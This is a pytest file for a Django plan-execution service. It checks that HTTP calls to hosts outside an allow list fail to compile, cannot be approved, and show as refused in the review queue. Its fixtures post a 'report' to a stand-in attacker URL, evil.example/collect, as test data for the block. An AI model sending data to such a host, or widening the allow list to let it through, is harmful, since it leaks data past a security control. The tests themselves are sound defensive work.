"""A call that will be refused is never approvable, on the web (issue 25, item 3).

An ``http_request`` whose URL names a host off ``FORGE_HTTP_ALLOWED_HOSTS`` does not
compile (``host_not_allowed``, with the setting to change); one whose URL comes from an
earlier step waits with a preview that says it cannot run, which the API refuses to
approve (409 ``call_refused``) and the review queue offers no approval for."""

from __future__ import annotations

import html

import pytest

from runs import services
from runs.models import Run, RunEvent, StepApproval, StepRun

from .runs_helpers import approved_version, drain

pytestmark = pytest.mark.django_db(transaction=True)

SEND = {
    "id": "send",
    "description": "Send the report to the purchasing service",
    "tool": "http_request",
    "args": {"method": "POST", "url": "https://evil.example/collect", "body": {"ok": True}},
    "done_when": {"required_keys": ["status"]},
    "rollback_hint": "Ask purchasing to delete it",
}
FIND = {
    "id": "find",
    "description": "Find the purchasing endpoint",
    "tool": "echo",
    "args": {"url": "https://evil.example/collect"},
    "done_when": {"required_keys": ["url"]},
}
SEND_FOUND = {
    **SEND,
    "depends_on": ["find"],
    "args": {"method": "POST", "url": {"$from": "find", "path": "url"}, "body": {"ok": True}},
}
REASON = "host 'evil.example' (port 443) is not on the allow list"
HINT = (
    "add evil.example (any port) or evil.example:443 to FORGE_HTTP_ALLOWED_HOSTS (the forge "
    "command: --allow-host evil.example), or call a host on the list"
)


@pytest.fixture(autouse=True)
def _allow_list(settings):
    settings.FORGE_HTTP_ALLOWED_HOSTS = ["api.example.com"]


def _compile(api_client, user, *steps):
    document = {"goal": "Report to purchasing", "steps": list(steps)}
    return api_client(user).post(
        "/api/v1/compile", {"document": document}, content_type="application/json"
    )


def test_compile_answers_a_host_off_the_allow_list_as_an_error_with_the_setting(api_client, author):
    answer = _compile(api_client, author, SEND)

    assert answer.status_code == 200
    data = answer.json()
    assert data["ok"] is False and data["graph"] is None
    assert [d for d in data["diagnostics"] if d["code"] == "host_not_allowed"] == [
        {
            "code": "host_not_allowed",
            "severity": "error",
            "message": f"step 'send' calls http_request, which will refuse it: {REASON}",
            "nodes": ["send"],
            "edges": [],
            "hint": HINT,
        }
    ]


def test_a_host_on_the_deployments_list_compiles(api_client, author, settings):
    settings.FORGE_HTTP_ALLOWED_HOSTS = ["api.example.com", "evil.example"]

    data = _compile(api_client, author, SEND).json()

    assert data["ok"] is True, data["diagnostics"]


def test_a_version_calling_a_refused_host_has_errors_and_cannot_be_approved(
    api_client, author, approver
):
    created = api_client(author).post(
        "/api/v1/plans",
        {"name": "Report", "document": {"goal": "Report to purchasing", "steps": [SEND]},
         "submit": True},
        content_type="application/json",
    )  # fmt: skip
    plan = created.json()

    answer = api_client(approver).post(
        f"/api/v1/plans/{plan['id']}/versions/1/approve", {}, content_type="application/json"
    )

    assert answer.status_code == 409
    assert answer.json()["code"] == "has_errors"
    assert [d["code"] for d in answer.json()["diagnostics"]] == ["host_not_allowed"]


def _waiting_run(author, approver, operator):
    version = approved_version(author, approver, [FIND, SEND_FOUND])
    run = services.start_run(version, operator)
    drain()
    run.refresh_from_db()
    return run


def test_a_resolved_call_to_a_refused_host_waits_with_a_preview_that_cannot_run(
    author, approver, operator, api_client
):
    run = _waiting_run(author, approver, operator)

    assert run.status == "awaiting_approval"
    step = next(s for s in api_client(approver).get(f"/api/v1/runs/{run.pk}").json()["steps"]
                if s["step_id"] == "send")  # fmt: skip
    assert step["status"] == "awaiting_approval"
    assert step["preview"]["runnable"] is False
    assert step["preview"]["refusal"] == {
        "code": "host_not_allowed",
        "reason": REASON,
        "hint": HINT,
    }


def test_approving_a_refused_preview_is_409_call_refused_and_nothing_runs(
    author, approver, operator, api_client
):
    run = _waiting_run(author, approver, operator)
    [waiting] = RunEvent.objects.filter(
        run=run, step_id="send", event_type="step_awaiting_approval"
    )

    answer = api_client(approver).post(
        f"/api/v1/runs/{run.pk}/steps/send/approve",
        {"comment": "fine", "preview_hash": waiting.facts["preview"]["hash"]},
        content_type="application/json",
    )
    drain()

    assert answer.status_code == 409
    body = answer.json()
    assert body["code"] == "call_refused"
    assert REASON in body["detail"] and "FORGE_HTTP_ALLOWED_HOSTS" in body["detail"]
    assert not StepApproval.objects.filter(run=run, step_id="send").exists()
    assert StepRun.objects.get(run=run, step_id="send").status == "awaiting_approval"
    assert Run.objects.get(pk=run.pk).status == "awaiting_approval"


def test_a_refused_preview_can_be_rejected_so_the_run_asks_for_a_replan(
    author, approver, operator, api_client
):
    run = _waiting_run(author, approver, operator)

    answer = api_client(approver).post(
        f"/api/v1/runs/{run.pk}/steps/send/reject",
        {"comment": "not our host"},
        content_type="application/json",
    )

    assert answer.status_code == 200, answer.json()
    assert Run.objects.get(pk=run.pk).status == "needs_replan"


def test_the_review_queue_shows_the_refusal_and_offers_no_approval(
    author, approver, operator, client
):
    run = _waiting_run(author, approver, operator)
    client.force_login(approver)

    page = client.get("/review/").content.decode()

    start = page.index(f'data-run="{run.pk}" data-step="send"')
    item = page[start : page.index("</article>", start)]
    assert "preview-refused" in item
    assert html.escape(REASON) in item and "FORGE_HTTP_ALLOWED_HOSTS" in item
    assert 'data-decision="approve"' not in item
    assert 'data-decision="reject"' in item
